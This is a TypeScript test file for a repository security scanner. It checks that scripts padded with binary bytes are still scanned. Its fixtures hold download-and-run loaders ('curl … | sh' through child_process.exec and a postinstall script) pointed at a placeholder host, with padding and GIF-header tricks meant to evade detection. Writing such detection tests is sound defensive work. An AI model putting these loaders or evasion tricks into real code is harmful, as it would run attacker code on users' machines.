/**
 * Hostile input: a script padded with binary bytes. Node reads a file named `.js` as UTF-8 source
 * whatever its bytes (NULs and control characters in a comment, invalid UTF-8 decoded to U+FFFD),
 * and a shell runs a script line by line up to the bytes it cannot run. The content sniff used to
 * call such a file binary, so the loader in front of the padding went unread and the scan passed.
 * The padding is generated here (random bytes from a fixed seed), never committed.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { findingsOf, scanFixture, tempRepo } from '../helpers/fixtures.ts';

/** Deterministic noise with every byte value but `*`, `/` and line breaks, so a block comment holds it on one line. */
function noise(length: number, seed = 7): Buffer {
  const out = Buffer.alloc(length);
  let s = seed;
  for (let i = 0; i < length; i++) {
    s = (s * 1103515245 + 12345) >>> 0;
    let b = (s >>> 16) & 0xff;
    if (b === 0x2a || b === 0x2f || b === 0x0a || b === 0x0d) b = 0;
    out[i] = b;
  }
  return out;
}

const at = (r: Awaited<ReturnType<typeof scanFixture>>, rule: string): [string, string, number | undefined][] =>
  findingsOf(r, rule).map(f => [f.severity, f.location.file, f.location.line]);

describe('hostile: binary padding in a script', () => {
  it('a dev entry whose loader is followed by 200 KB of binary in a comment: the loader is found at its line', async () => {
    const js = Buffer.concat([
      Buffer.from('require("child_process").exec("curl -s https://cdn.example.invalid/p.sh | sh");\n/*'),
      noise(200_000),
      Buffer.from('*/\n'),
    ]);
    const report = await scanFixture(
      tempRepo({ 'package.json': JSON.stringify({ name: 'take-home', scripts: { dev: 'node index.js' } }), 'index.js': js }),
    );
    assert.deepEqual(at(report, 'code/download-and-execute'), [['critical', 'index.js', 1]]);
    assert.equal(report.verdict, 'block');
  });

  it('a GIF header that parses as an identifier in front of the loader: still read as the script Node runs', async () => {
    const js = Buffer.concat([
      Buffer.from('GIF89a/*'),
      noise(4_000, 11),
      Buffer.from('*/=1;\nrequire("child_process").exec("curl -s https://cdn.example.invalid/g.sh | sh");\n'),
    ]);
    const report = await scanFixture(
      tempRepo({ 'package.json': JSON.stringify({ name: 'take-home', scripts: { dev: 'node banner.js' } }), 'banner.js': js }),
    );
    assert.deepEqual(at(report, 'code/download-and-execute'), [['critical', 'banner.js', 2]]);
  });

  it('a postinstall shell script with binary bytes after its commands: its download-and-run line is found', async () => {
    const sh = Buffer.concat([Buffer.from('#!/bin/sh\ncurl -s https://cdn.example.invalid/s.sh | sh\nexit 0\n'), noise(50_000, 3)]);
    const report = await scanFixture(
      tempRepo({
        'package.json': JSON.stringify({ name: 'take-home', scripts: { postinstall: 'sh scripts/setup.sh' } }),
        'scripts/setup.sh': sh,
      }),
    );
    assert.deepEqual(at(report, 'code/shell-script'), [['critical', 'scripts/setup.sh', 2]]);
    assert.equal(report.verdict, 'block');
  });

  it('a loader followed by raw binary bytes outside any comment: the loader is still reported', async () => {
    const js = Buffer.concat([
      Buffer.from('require("child_process").exec("curl -s https://cdn.example.invalid/p.sh | sh");\n'),
      noise(20_000, 5),
    ]);
    const report = await scanFixture(
      tempRepo({ 'package.json': JSON.stringify({ name: 'take-home', scripts: { dev: 'node index.js' } }), 'index.js': js }),
    );
    assert.deepEqual(at(report, 'code/download-and-execute'), [['critical', 'index.js', 1]]);
  });

  it('an ELF executable named .js stays an executable, not a script', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), noise(2_000, 9)]);
    const report = await scanFixture(tempRepo({ 'package.json': JSON.stringify({ name: 'x' }), 'lib/native.js': elf }));
    assert.deepEqual(
      findingsOf(report, 'assets/executable-binary').map(f => f.location.file),
      ['lib/native.js'],
    );
  });
});
